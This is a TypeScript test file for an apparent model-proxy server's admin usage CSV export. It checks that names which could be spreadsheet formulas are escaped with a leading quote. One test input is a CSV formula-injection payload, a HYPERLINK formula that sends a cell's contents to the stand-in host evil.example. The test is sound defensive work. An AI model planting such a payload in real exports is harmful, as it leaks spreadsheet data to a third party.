import { expect, test } from "bun:test";
import { answering } from "../../support/chat-agent.ts";
import { startModelScene } from "../../support/model-scene.ts";
import { readCsv } from "../../support/read-csv.ts";
import { ADMIN_KEY } from "../../support/server.ts";
import { addLimitedUser, callerOf } from "../../support/user-caller.ts";
import { V2_HELLO } from "../../support/v2-agent.ts";

async function usageOf(url: string, query: string) {
  const response = await fetch(`${url}/admin/usage?${query}`, { headers: { authorization: ADMIN_KEY } });
  return { response, text: await response.text() };
}

test("the usage is also a table for spreadsheets, in which no name that an agent chose is a formula", async () => {
  const models = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "plain, with a comma"];
  const { server, post } = await startModelScene({
    ...answering({ prompt_tokens: 7, completion_tokens: 3 }),
    hello: { ...V2_HELLO, models: models.map((id) => ({ id })) },
  });
  for (const model of models) await post("chat/completions", { model, messages: [] });
  const { response, text } = await usageOf(server.url, "by=user,model&format=csv");
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
  expect(response.headers.get("content-disposition")).toMatch(
    /^attachment; filename="usage-by-user-model-\d{4}-\d\d-\d\d_\d{4}-\d\d-\d\d\.csv"$/,
  );
  const [header, ...rows] = readCsv(text);
  expect(header?.slice(0, 12)).toEqual([
    ...["user", "user_name", "model", "asks", "failed", "prompt_tokens", "completion_tokens"],
    ...["cached_tokens", "cache_creation_tokens", "reasoning_tokens", "estimated", "uncounted"],
  ]);
  const figures = ["1", "0", "7", "3", "0", "0", "0", "0", "0"];
  expect(rows.map((row) => row.slice(0, 12)).toSorted()).toEqual(
    [`'${models[0]}`, `'${models[1]}`, models[2] ?? ""]
      .map((model) => ["", "", model, ...figures])
      .toSorted(),
  );
  const cut = await usageOf(server.url, "by=model&format=csv&limit=2");
  expect([readCsv(cut.text).length, cut.response.headers.get("x-truncated")]).toEqual([3, "true"]);
});

test("the tables by agent and by user have names, also of those that are gone", async () => {
  const { server, agent } = await startModelScene({
    ...answering({ prompt_tokens: 7, completion_tokens: 3 }),
    hello: { ...V2_HELLO, name: "=gpu box" },
  });
  const ann = await addLimitedUser(server.url, { name: "Ann" });
  const ben = await addLimitedUser(server.url, { name: "Ben" });
  for (const user of [ann, ben]) expect((await callerOf(server.url, user).chat()).status).toBe(200);
  await fetch(`${server.url}/admin/users/${ben.user_id}`, {
    method: "DELETE",
    headers: { authorization: ADMIN_KEY },
  });
  agent.stop();
  const namesIn = async (group: string) => {
    const [header, ...rows] = readCsv((await usageOf(server.url, `by=${group}&format=csv`)).text);
    expect(header?.slice(0, 2)).toEqual([group, `${group}_name`]);
    return rows.map((row) => row.slice(0, 2)).toSorted();
  };
  expect(await namesIn("agent")).toEqual([[agent.ready.agent, "'=gpu box"]]);
  expect(await namesIn("user")).toEqual(
    [
      [ann.user_id, "Ann"],
      [ben.user_id, "Ben"],
    ].toSorted(),
  );
});
